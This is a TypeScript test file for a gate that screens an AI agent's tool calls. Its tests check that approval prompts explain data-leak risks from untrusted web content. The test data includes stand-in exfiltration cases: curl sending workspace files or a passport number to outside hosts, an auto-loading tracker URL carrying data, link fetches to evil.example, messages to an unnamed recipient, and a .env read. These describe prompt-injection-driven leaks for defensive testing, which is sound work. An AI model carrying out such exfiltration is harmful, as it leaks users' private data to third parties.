/**
 * What the owner reads when the gate asks: the risk (what could leave, to whom, from which untrusted source), not
 * only what the tool call is. One case per class of reason whose wording carries it.
 */
import { describe, test } from "node:test";
import assert from "node:assert/strict";
import { decide } from "./decide.ts";
import { allow } from "../core/decision.ts";
import type { FlowState, GateRequest, ToolFacts } from "./types.ts";
import { flowOf } from "../../test/support/flow.ts";
import { approvalPromptText } from "../approvals/approval-prompt.ts";

function request(facts: ToolFacts, flow: Partial<FlowState>): GateRequest {
  return { principal: { kind: "owner", id: "gateway:owner", channel: "webchat" }, ownerSession: true, grants: "all", flow: flowOf(flow), facts };
}

const page = { sources: ["https://evil.example/page"] };
const privateAfterPage = { ...page, readData: [{ label: "notes.txt", value: "salary 123456" }], privateFrom: "the file notes.txt" };
const passport = { ownerTexts: ["my passport number is X1234567Q, please book the visa appointment"] };
const exec = (over: Partial<Extract<ToolFacts, { tool: "exec" }>>): ToolFacts => ({
  tool: "exec", command: "python3 tool.py", base: allow("none"), writes: false, deletes: false, network: false, executesCode: false, unknownEffects: false,
  touchesSecrets: false, sandboxed: true, ...over,
});
const message = (reason: string, flow: Partial<FlowState>) => decide(request({ tool: "message", to: "travel-desk", channel: "test", text: "Passport X1234567Q for the visa appointment", toRequester: false, toOwner: false, ownerIds: ["owner-1"], knownRecipient: true, channelAvailable: true }, flow)).reasons.find((r) => r.id === reason)?.message ?? "";

describe("ask reasons say what could leave, to whom, and from where", () => {
  test("a networked command in an untrusted context: which private data since when, and the untrusted source", () => {
    const m = decide(request(exec({ network: true }), privateAfterPage)).reasons.find((r) => r.id === "taint.exec_effects")?.message ?? "";
    assert.match(m, /reaches the network in an untrusted context \(the context holds content from https:\/\/evil\.example\/page\); the context holds private data \(since the file notes\.txt entered\) that it could carry out, and the command itself can read the workspace's files/);
    // A clean context does not bound what a networked command sends: it reads files itself (`curl -d @notes.md`).
    const pub = decide(request(exec({ network: true }), page)).reasons.find((r) => r.id === "taint.exec_effects")?.message ?? "";
    assert.match(pub, /holds no private data, but the command itself can read the workspace's files and send them/);
    const words = decide(request(exec({ network: true, command: "curl https://visa.example/?p=X1234567Q" }), { ...page, ...passport })).reasons.find((r) => r.id === "taint.exec_effects")?.message ?? "";
    assert.match(words, /it carries words from your own message/);
    const local = decide(request(exec({ writes: true }), page)).reasons.find((r) => r.id === "taint.exec_effects")?.message ?? "";
    assert.match(local, /writes in an untrusted context .*: text from there could have chosen it/);
  });
  test("no sandbox: the command runs with the owner's files and network", () => {
    const m = decide(request(exec({ sandboxed: false }), privateAfterPage)).reasons.find((r) => r.id === "taint.exec_unsandboxed")?.message ?? "";
    assert.match(m, /runs on your machine with your files and network.*private data/);
  });
  test("a message the model wrote: to whom, and that it carries the owner's own words", () => {
    assert.match(message("flow.untrusted_argument", { ...page, ...passport }), /the text to `travel-desk` was written by the model.*carries words from your own message/);
  });
  test("a recipient the owner did not name: what the context holds that could go to them", () => {
    const m = decide(request({ tool: "message", to: "mallory", channel: "test", text: "hi", toRequester: false, toOwner: false, ownerIds: ["owner-1"], knownRecipient: true, channelAvailable: true }, privateAfterPage)).reasons.find((r) => r.id === "flow.untrusted_recipient")?.message ?? "";
    assert.match(m, /you did not name `mallory`.*holds private data \(since the file notes\.txt entered\)/);
  });
  test("a document that loads a composed URL when opened: the host that would receive it", () => {
    const m = decide(request({ tool: "write", path: "notes.md", base: allow("none"), secretPath: false, content: "x", document: true, autoLoads: ["https://tracker.example/p.png?d=123456"] }, privateAfterPage)).reasons.find((r) => r.id === "flow.document_autoload")?.message ?? "";
    assert.match(m, /`tracker\.example` would receive whatever the URL carries/);
  });
  test("a scheduled job from an untrusted context: it runs again, and who could have written it", () => {
    const m = decide(request({ tool: "cron", action: "add", prompt: "check the page daily", base: allow("none") }, page)).reasons.find((r) => r.id === "taint.cron_persistence")?.message ?? "";
    assert.match(m, /run its prompt again on every run, long after this turn, and text from there could have written it \(the context holds content from https:\/\/evil\.example\/page\)/);
  });
  test("a credential read in an untrusted context: which file, and what Warden still refuses", () => {
    const m = decide(request({ tool: "read", path: ".env", base: allow("none"), secretPath: true }, page)).reasons.find((r) => r.id === "taint.secret_read")?.message ?? "";
    assert.match(m, /`\.env`.*could steer what the model does with it \(Warden refuses to send it to anyone but you\)/);
  });
  test("a tool with declared effects: the party its arguments go to, and the owner's words they carry", () => {
    const facts: ToolFacts = { declared: { name: "mcp__travel__book", effects: ["message"] }, base: allow("none"), outbound: JSON.stringify({ passport: "X1234567Q" }), remote: { party: "the MCP server `travel`", secretsAllowed: [] } };
    const m = decide(request(facts, { ...page, ...passport })).reasons.find((r) => r.id === "taint.declared_effects")?.message ?? "";
    assert.match(m, /its arguments go to the MCP server `travel`; the context holds no private data.*carries words from your own message/);
  });
  test("a call someone else asked for: who asked, and what it would do in the owner's name", () => {
    const contact = { kind: "contact" as const, id: "telegram:4242", channel: "telegram" };
    const asked = (facts: ToolFacts, id: string) => decide({ ...request(facts, {}), principal: contact, ownerSession: false, grants: ["message", "cron", "mcp__x__do"] }).reasons.find((r) => r.id === id)?.message ?? "";
    assert.match(asked({ tool: "message", to: "bob", channel: "telegram", text: "hi", toRequester: false, toOwner: false, ownerIds: ["owner-1"], knownRecipient: true, channelAvailable: true }, "message.third_party_from_non_owner"),
      /the contact `telegram:4242` asks for a message to `bob`.*in your name/);
    assert.match(asked({ tool: "cron", action: "add", prompt: "ping", base: allow("none") }, "cron.non_owner"), /the contact `telegram:4242` asks for a scheduled job: it would run again and again/);
    assert.match(asked({ declared: { name: "mcp__x__do", effects: ["message"] }, base: allow("none"), outbound: "{}" }, "declared.non_owner"), /the contact `telegram:4242` asks for it, not you/);
  });
  test("the link budget: with private data in the context, the choice of links is itself a channel to their site", () => {
    const flow = { ...privateAfterPage, linkFetches: 8, contentUrls: [{ url: "https://evil.example/b", from: "https://evil.example/page", fromHost: "evil.example" }] };
    const m = decide(request({ tool: "web_fetch", url: "https://evil.example/b", host: "evil.example", base: allow("none") } as ToolFacts, flow)).reasons.find((r) => r.id === "flow.link_budget")?.message ?? "";
    assert.match(m, /could spell out data from the context \(the file notes\.txt\) to `evil\.example`/);
  });
  test("the prompt puts the risk first, then how the tool's policy classified the call", () => {
    const d = decide(request(exec({ network: true, base: { decision: "ask", risk: "medium", reasons: [{ id: "exec.network", message: "`curl` reaches the network" }] } }), privateAfterPage));
    const text = approvalPromptText({ id: "a1", risk: d.risk, reasons: d.reasons, summary: "exec curl https://x.example", provenance: [] } as unknown as Parameters<typeof approvalPromptText>[0]);
    assert.match(text, /\nRisk: the command reaches the network in an untrusted context.*\nAlso: `curl` reaches the network/s);
  });
});
